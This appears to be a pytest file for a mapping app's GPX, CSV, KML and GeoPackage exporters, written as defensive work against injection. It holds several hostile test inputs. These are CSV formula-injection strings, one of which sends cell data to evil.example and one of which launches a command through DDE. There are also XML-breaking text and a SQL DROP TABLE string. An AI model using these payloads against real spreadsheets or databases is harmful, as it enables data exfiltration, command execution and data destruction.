"""GPX (links, honest times, stop counts) and CSV (formulas, types, null vs empty)."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pyogrio
import shapely
from pyogrio.raw import read
from typer.testing import CliRunner

from mapapp.cli import app
from mapapp.export.csv_table import FORMULA_STARTS
from mapapp.export.filters import events_of, filter_collection
from mapapp.export.formats import export_bytes, export_files
from mapapp.presentation.wording import safe_url
from mapapp.store.schema import columns

GPX = {"g": "http://www.topografix.com/GPX/1/1"}


def gpx_root(collection: dict[str, Any]) -> ElementTree.Element:
    return ElementTree.fromstring(export_bytes(collection, "gpx"))


def test_gpx_links_every_source_and_times_only_known_instants(built: dict[str, Any]) -> None:
    root = gpx_root(built)
    waypoints = root.findall("g:wpt", GPX)
    events = [e["properties"] for e in events_of(built)]
    assert len(waypoints) == len(events)
    for wpt, props in zip(waypoints, events, strict=True):
        assert wpt.findtext("g:name", namespaces=GPX) == f"{props['seq']}. {props['title']}"
        links = [link.get("href") for link in wpt.findall("g:link", GPX)]
        urls = [*props["sources"], props["location_source"]]
        assert links == [u for u in urls if u and safe_url(u)]
        time = wpt.findtext("g:time", namespaces=GPX)
        assert time == (props["start_utc"] if props["time_precision"] == "minute" else None)
        assert props["date"] in (wpt.findtext("g:cmt", namespaces=GPX) or "")
        assert wpt.findtext("g:type", namespaces=GPX) == props["event_type"]
    children = [child.tag.split("}")[1] for child in root]
    assert children == ["metadata", *["wpt"] * len(events), "trk", "trk"]  # GPX 1.1's order


def test_a_tracks_description_counts_its_points_as_stops(built: dict[str, Any]) -> None:
    """Two events at one site are one point of the track: "3 stops (4 events)"."""
    data = copy.deepcopy(built)
    day2 = [e for e in events_of(data) if e["properties"]["day"] == 2]
    day2[1]["geometry"] = copy.deepcopy(day2[0]["geometry"])  # two stops at one site
    data = filter_collection(data)  # routes rebuilt from the moved events
    tracks = gpx_root(data).findall("g:trk", GPX)
    desc = tracks[1].findtext("g:desc", namespaces=GPX) or ""
    points = tracks[1].findall(".//g:trkpt", GPX)
    assert len(points) == len(day2) - 1
    assert f": {len(points)} stops ({len(day2)} events)," in desc
    first = tracks[0].findtext("g:desc", namespaces=GPX) or ""
    assert f": {len(tracks[0].findall('.//g:trkpt', GPX))} stops," in first


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def test_a_formula_title_round_trips_as_text_and_numbers_stay_numbers(
    built: dict[str, Any], tmp_path: Path
) -> None:
    """OWASP CSV injection: every trigger gets a leading ', which removing one
    leading ' undoes; negative numbers are still bare numbers."""
    data = copy.deepcopy(filter_collection(built, days=[1]))
    titles = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted",
    ]
    events = events_of(data)
    for feature, title in zip(events, titles, strict=False):
        feature["properties"]["title"] = title
        feature["properties"]["lon"] = -abs(feature["properties"]["lon"])
    content = export_bytes(data, "csv")
    raw = content.decode("utf-8")
    rows = csv_rows(content)
    for row, feature in zip(rows, events, strict=True):
        props = feature["properties"]
        assert row["title"].startswith("'") == props["title"].startswith(FORMULA_STARTS)
        assert row["title"].removeprefix("'") == props["title"]  # the documented way back
        assert float(row["lon"]) == props["lon"] < 0
        assert f",{props['lon']!r}," in raw  # bare, not quoted, not neutralised
    assert not any(line.split('","')[0].startswith("=") for line in raw.splitlines())
    path = tmp_path / "f.csv"
    for ext, part in export_files(data, "csv").items():
        path.with_suffix(ext).write_bytes(part)
    read_back = read(path, columns=["title", "lon"])[3]
    assert read_back[0][0] == "'" + titles[0]
    assert read_back[1].dtype.kind == "f" and read_back[1][0] < 0  # Real via the .csvt


def test_gdal_types_the_csv_from_its_sidecars_and_reads_the_wkt_geometry(
    workdir: Path, built: dict[str, Any]
) -> None:
    out = workdir / "events.csv"
    data = workdir / "data" / "itinerary.geojson"
    result = CliRunner().invoke(app, ["export", "--data", str(data), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.with_suffix(".csvt").exists() and out.with_suffix(".prj").exists()
    info = pyogrio.read_info(out)
    types = dict(zip(info["fields"].tolist(), info["ogr_types"], strict=True))
    for c in columns("event"):
        want = {"Integer64": "OFTInteger64", "Real": "OFTReal", "Date": "OFTDate"}.get(c.gis)
        want = "OFTDateTime" if c.gis in ("DateTime", "LocalDateTime") else want
        assert types[c.name] == (want or "OFTString"), c.name
    assert info["crs"] == "EPSG:4326"
    geometries = read(out)[2]
    assert geometries is not None and len(geometries) == len(events_of(built))
    first = shapely.from_wkb(geometries[0])
    props = events_of(built)[0]["properties"]
    assert (first.x, first.y) == (props["lon"], props["lat"])


def test_a_null_is_an_unquoted_empty_cell_and_an_empty_text_is_quoted(
    built: dict[str, Any],
) -> None:
    events = events_of(built)
    assert any(e["properties"]["time"] is None for e in events)
    assert any(e["properties"]["time_label"] == "" for e in events)
    lines = export_bytes(built, "csv").decode("utf-8").split("\r\n")
    header = lines[0].split(",")
    for line, feature in zip(lines[1:], events, strict=False):
        props = feature["properties"]
        cells = next(csv.reader([line]))
        fields = dict(zip(header, cells, strict=True))
        if props["time"] is None:
            assert f',"{props["date"]}",,"{props["time_precision"]}",' in line  # null: bare
        if props["time_label"] == "":
            assert f'"{props["time_precision"]}","",' in line  # empty text: ""
        assert json.loads(fields["actors"]) == props["actors"]


def test_gpx_stays_xml_with_hostile_text(built: dict[str, Any]) -> None:
    """Control characters and a lone surrogate become U+FFFD; markup stays text."""
    data = copy.deepcopy(filter_collection(built, days=[1]))
    evil = '</name><x/>&amp; "q" \x00\x1f \udfff'
    events_of(data)[0]["properties"]["title"] = evil
    root = gpx_root(data)  # parses
    name = root.find("g:wpt", GPX).findtext("g:name", namespaces=GPX)  # type: ignore[union-attr]
    assert name == '1. </name><x/>&amp; "q" \ufffd\ufffd \ufffd'


def test_a_lone_surrogate_does_not_fail_the_csv(built: dict[str, Any]) -> None:
    data = copy.deepcopy(filter_collection(built, days=[1]))
    events_of(data)[0]["properties"]["title"] = "a\udfffb"
    assert csv_rows(export_bytes(data, "csv"))[0]["title"] == "a\ufffdb"


def test_kml_and_gpx_describe_each_event_in_the_maps_words(
    built: dict[str, Any], tmp_path: Path
) -> None:
    """The place line with its precision label and radius, the location note and
    the location source, exactly as the map's EventView gives them."""
    from mapapp.presentation.wording import event_view

    kml = tmp_path / "all.kml"
    kml.write_bytes(export_bytes(built, "kml"))
    described = {}
    for day in ("Day 1", "Day 2"):
        meta, _, _, data = read(kml, layer=day, columns=["Name", "description"])
        cols = dict(zip(meta["fields"].tolist(), data, strict=True))
        described.update(zip(cols["Name"].tolist(), cols["description"].tolist(), strict=True))
    waypoints = {
        w.findtext("g:name", namespaces=GPX): w.findtext("g:desc", namespaces=GPX) or ""
        for w in gpx_root(built).findall("g:wpt", GPX)
    }
    for feature in events_of(built):
        view = event_view(feature["properties"])
        assert "within about" in view.place
        assert f"Where: {view.place}" in waypoints[view.heading]
        assert f"When: {view.when}" in waypoints[view.heading]
        location = f"{feature['properties']['location_source']} (location)"
        assert location in waypoints[view.heading]
        html = described[view.heading]
        assert f"<b>Where</b>: {escape_html(view.place)}" in html
        assert escape_html(view.place_note) in html and "(location)" in html


def escape_html(text: str) -> str:
    from mapapp.presentation import escape

    return escape.html(text)


def test_sql_in_a_name_is_only_text_in_the_geopackage(
    built: dict[str, Any], tmp_path: Path
) -> None:
    data = copy.deepcopy(filter_collection(built, days=[1]))
    sql = "Robert'); DROP TABLE events;--"
    props = events_of(data)[0]["properties"]
    props["actors"][0], props["actor_roles"][0] = sql, f"{sql}: visitor"
    path = tmp_path / "sql.gpkg"
    path.write_bytes(export_bytes(data, "gpkg"))
    assert read(path, layer="event_actors", columns=["actor"])[3][0][0] == sql
    assert len(read(path, layer="events")[2]) == len(events_of(data))
